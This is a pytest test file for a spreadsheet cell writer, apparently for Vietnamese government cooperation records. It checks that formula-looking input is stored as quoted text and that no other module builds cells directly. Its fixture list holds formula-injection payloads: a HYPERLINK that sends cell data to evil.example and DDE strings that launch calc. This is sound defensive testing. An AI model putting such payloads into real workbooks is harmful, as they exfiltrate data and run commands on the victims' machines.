"""The one XLSX cell writer: hostile text arrives as text, numbers stay numbers, and no other
module of the project builds workbook cells itself."""

from __future__ import annotations

import ast
from datetime import date
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.styles import Font

from agreements.xlsx import MAX_CELL_CHARS, xlsx_cell, xlsx_row, xlsx_style, xlsx_workbook

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "- Tổ chức đoàn công tác",  # an ordinary bullet: kept as typed, and as text
]


def read_back(values: list) -> list:
    wb = xlsx_workbook()
    ws = wb.create_sheet("Thử")
    xlsx_row(ws, [xlsx_cell(ws, value) for value in values])
    xlsx_row(ws, values)  # plain values are guarded too
    buffer = BytesIO()
    wb.save(buffer)
    return list(load_workbook(BytesIO(buffer.getvalue()))["Thử"].iter_rows())


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_looks_like_a_formula_arrives_as_text(text):
    for row in read_back([text]):
        cell = row[0]
        assert cell.value == text
        assert cell.data_type == "s"
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited


def test_numbers_dates_and_plain_text_are_untouched():
    values = [-5, 1_300_000_000, Decimal("2.5"), date(2024, 3, 1), "Sở Ngoại vụ", 0]
    for row in read_back(values):
        assert [cell.data_type for cell in row] == ["n", "n", "n", "d", "s", "n"]
        assert row[0].value == -5 and row[4].value == "Sở Ngoại vụ"
        assert not any(cell.quotePrefix for cell in row)


def test_control_characters_and_overlong_text_cannot_break_the_file():
    (row, _) = read_back(["a\x01b\x0bc", "x" * (MAX_CELL_CHARS + 10)])
    assert row[0].value == "abc"
    assert len(row[1].value) == MAX_CELL_CHARS and row[1].value.endswith("[…]")


def test_a_style_built_once_is_shared_but_a_quoted_cell_keeps_its_quote_to_itself():
    """Cells given one ``xlsx_style`` share it; the quote prefix of a guarded cell must not
    reach the ordinary text written after it with the same style."""
    wb = xlsx_workbook()
    ws = wb.create_sheet("Thử")
    style = xlsx_style(ws, font=Font(name="Times New Roman", bold=True), number_format="#,##0")
    values = ["Sở Ngoại vụ", "=1+1", "Sở Công thương", 1_300_000, "#N/A"]
    xlsx_row(ws, [xlsx_cell(ws, value, style=style) for value in values])
    buffer = BytesIO()
    wb.save(buffer)
    (row,) = load_workbook(BytesIO(buffer.getvalue()))["Thử"].iter_rows()
    assert [cell.value for cell in row] == values
    assert [cell.quotePrefix for cell in row] == [False, True, False, False, False]
    assert [cell.data_type for cell in row] == ["s", "s", "s", "n", "e"]
    assert all(cell.font.b and cell.number_format == "#,##0" for cell in row)


WRITER = ROOT / "agreements" / "xlsx.py"
FORBIDDEN_CALLS = {"Workbook", "WriteOnlyCell", "Cell"}


def _project_modules():
    for app in ("accounts", "agreements", "tasks", "reports", "coopplan"):
        for path in (ROOT / app).rglob("*.py"):
            if path != WRITER and "migrations" not in path.parts:
                yield path


def test_no_module_but_the_writer_builds_cells():
    """Every XLSX goes through agreements.xlsx: a module that makes its own workbook or cells,
    or appends raw values to a sheet, could write a live formula again."""
    offenders = []
    for path in _project_modules():
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            name = func.id if isinstance(func, ast.Name) else getattr(func, "attr", "")
            if name in FORBIDDEN_CALLS:
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {name}()")
            # ws.append(...) / self.ws.append(...): rows must go through xlsx_row
            if name == "append" and isinstance(func, ast.Attribute):
                target = func.value
                owner = target.id if isinstance(target, ast.Name) else getattr(target, "attr", "")
                if owner == "ws":
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} ws.append()")
            if name == "cell" and isinstance(func, ast.Attribute):
                target = func.value
                owner = target.id if isinstance(target, ast.Name) else getattr(target, "attr", "")
                if owner == "ws":
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} ws.cell()")
    assert offenders == []
